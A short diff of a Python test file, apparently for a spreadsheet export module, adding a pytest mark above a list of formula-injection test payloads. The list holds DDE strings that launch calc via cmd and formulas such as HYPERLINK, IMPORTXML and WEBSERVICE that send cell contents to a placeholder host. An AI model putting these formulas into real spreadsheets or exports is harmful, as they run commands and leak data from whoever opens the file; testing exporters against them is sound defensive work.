@@ -26,6 +26,8 @@ from recap.workbook import Desa, Template
 from tests.cast import Cast
 from tests.packages import write_package
 
+pytestmark = pytest.mark.once
+
 PAYLOADS = (
     "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "=cmd|'/C calc.exe'!Z0", "-cmd|'/C calc'!A1",
     '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', "=IMPORTXML(CONCAT(A1),\"//a\")", "=WEBSERVICE(A1)", "=RTD(1;2)",
